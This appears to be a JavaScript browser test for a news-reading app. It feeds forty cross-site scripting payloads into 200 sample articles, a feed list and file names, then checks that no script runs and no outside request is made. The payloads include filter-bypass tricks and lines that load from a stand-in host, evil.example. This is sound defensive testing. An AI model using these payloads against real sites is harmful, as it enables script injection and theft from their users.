// Text from outside is text: two hundred articles, a list of feeds and file names with script wherever markup could hide it.
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { launch } from "./browser.mjs";
import { chancery, first, open } from "./desk.mjs";

const run = "globalThis.ran=(globalThis.ran||0)+1";
const evil = "https://evil.example/x";
const payloads = [
    `<script>${run}</script>`, `"><script>${run}</script>`, `'><script src=${evil}></script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`,
    `<img src=x onerror="${run}">`, `"><img src=${evil} onerror=${run}>`, `<svg onload="${run}">`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><script>${run}</script></svg>`,
    `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src="javascript:parent.${run}">`, `<object data="javascript:${run}">`, `<embed src=${evil}>`,
    `<details open ontoggle=${run}>`, `<video><source onerror="${run}">`, `<input autofocus onfocus=${run}>`, `<body onload=${run}>`, `<style>@import "${evil}";*{background:url(${evil})}</style>`,
    `<link rel=stylesheet href=${evil}>`, `<meta http-equiv=refresh content="0;url=${evil}">`, `<base href=${evil}>`, `<form action=${evil}><button autofocus>Go</button></form>`, `<a href="javascript:${run}">here</a>`,
    `&lt;script&gt;${run}&lt;/script&gt;`, `\u003cscript\u003e${run}\u003c/script\u003e`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `" onmouseover="${run}" x="`,
    `' style='position:fixed;inset:0' onmouseover='${run}`, `<!--><script>${run}</script>-->`, `<![CDATA[<script>${run}</script>]]>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<marquee onstart=${run}>`, `<x contenteditable autofocus onfocus=${run}>`, `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${run}>`, `<portal src=${evil}>`, `\u202e<script>${run}</script>`,
];
const places = ["title", "text", "outlet", "authors", "url"];

/** One article for each payload and place; all of them bear on the demo's watch, so that the inbox shows them. */
const articles = places.flatMap((place, p) => payloads.map((payload, n) => {
    const article = {
        title: `Kestovia and Marenia talks in Corrast, note ${p}.${n}`,
        url: `https://paper${p}-${n}.example/a`,
        outlet: `paper${p}-${n}.example`,
        authors: ["Ida Ost"],
        published: `2026-03-0${7 + (n % 3)}T12:00:00Z`,
        text: `Kestovia and Marenia are to hold talks on the Orva war, envoy Jon Reek said on Friday. “We expect ${n} of them,” he said.`,
    };
    if (place === "title") article.title += ` ${payload}`;
    if (place === "text") article.text = `“${payload}” said Foreign Minister ${payload} in Corrast. ${article.text}`;
    if (place === "outlet") article.outlet = payload;
    if (place === "authors") article.authors = [payload, `${payload} Ost`];
    if (place === "url") article.url = n % 2 ? `javascript:${run}//${n}` : `https://paper${p}-${n}.example/a"${payload}`;
    return article;
}));

test("200 hostile articles, a hostile list of feeds and hostile file names: nothing runs, nothing is asked of elsewhere", async t => {
    assert.equal(articles.length, 200);
    const desk = await open({ drafted: false, read: false });
    const browser = await launch();
    try {
        const file = join(desk.folder, `<img src=x onerror=${run.replaceAll("/", "")}>.jsonl`);
        await writeFile(file, articles.map(article => JSON.stringify(article)).join("\n"));
        await chancery("read", file, "--desk", desk.desk);

        const tab = await browser.newContext();
        const page = await tab.newPage();
        const faults = [];
        page.on("dialog", dialog => { faults.push(`a dialog: ${dialog.message()}`); dialog.dismiss(); });
        page.on("request", request => { if (!request.url().startsWith(desk.url) && !request.url().startsWith("data:")) faults.push(`asked for ${request.url()}`); });
        // The policy would stop much; that it never has to is the point.
        page.on("console", message => { if (/Content Security Policy|Refused/.test(message.text())) faults.push(message.text()); });
        await first(page, desk, `Pia ${payloads[5]}`);

        const visit = async path => {
            await page.goto(desk.url + path);
            const found = await page.evaluate(() => ({
                ran: globalThis.ran ?? 0,
                outside: [...document.querySelectorAll("script:not([src^='/assets/']), iframe, object, embed, base, style, [style], link:not([href^='/assets/']), main img, main svg, main video, main form:not([action^='/']), meta[http-equiv]")].map(each => each.outerHTML.slice(0, 120)),
                links: [...document.querySelectorAll("a[href]:not(.bookmarklet)")].map(link => link.protocol).filter(scheme => !["http:", "https:"].includes(scheme)),
                handlers: [...document.querySelectorAll("*")].flatMap(each => each.getAttributeNames().filter(name => name.startsWith("on"))),
            }));
            if (found.ran || found.outside.length || found.links.length || found.handlers.length) faults.push(`${path}: ${JSON.stringify(found)}`);
        };

        await visit("/inbox/demo/2026-03-06");
        const stories = await page.$$eval(".story .meta a[href^='/story/']", links => links.map(link => link.getAttribute("href")));
        const seen = new Set();
        for (const story of stories) {
            await visit(story);
            for (const link of await page.$$eval("a[href^='/article/']", all => all.map(each => each.getAttribute("href")))) seen.add(link);
        }
        for (const link of seen) await visit(link);
        t.diagnostic(`${stories.length} stories and ${seen.size} articles opened`);
        assert.ok(seen.size >= 150, `${seen.size} articles were opened`);

        // Captures are text in a sandbox.
        await page.goto(desk.url + [...seen][0]);
        const capture = await page.getByRole("link", { name: "What was captured" }).getAttribute("href");
        const answer = await page.goto(desk.url + capture);
        assert.match(answer.headers()["content-type"], /^text\/plain/);
        assert.match(answer.headers()["content-security-policy"], /sandbox/);

        await page.goto(desk.url + "/sources");
        await page.locator(".sourcing details summary").click();
        await page.setInputFiles("[name=file]", {
            name: `${payloads[5].replaceAll("/", "")}.opml`,
            mimeType: "text/xml",
            buffer: Buffer.from(`<opml version="2.0"><body>${payloads.map((payload, n) => `<outline text="${payload.replace(/[<>&"]/g, sign => `&#${sign.charCodeAt(0)};`)}" type="rss" xmlUrl="https://f${n}.example/feed"/>`).join("")}</body></opml>`),
        });
        await page.getByRole("button", { name: "Take it in" }).click();
        await page.locator(".notice", { hasText: "feeds" }).waitFor();
        for (const path of ["/sources", "/account", "/accounts", "/audit", "/add?address=%22%3E%3Cscript%3E1%3C%2Fscript%3E", "/inbox/demo/2026-03-06?show=%3Cscript%3E", "/%3Cscript%3E"]) await visit(path);

        await page.goto(desk.url + "/add");
        await page.setInputFiles("[name=file]", { name: `<svg onload=${run}>.html`, mimeType: "text/html", buffer: Buffer.from(payloads.join("\n")) });
        await page.getByRole("button", { name: "Read and keep" }).click();
        await page.locator(".notice").waitFor();
        assert.equal(await page.evaluate(() => globalThis.ran ?? 0), 0);
        assert.deepEqual(faults, []);
    } finally {
        await browser.close();
        await desk.close();
    }
});
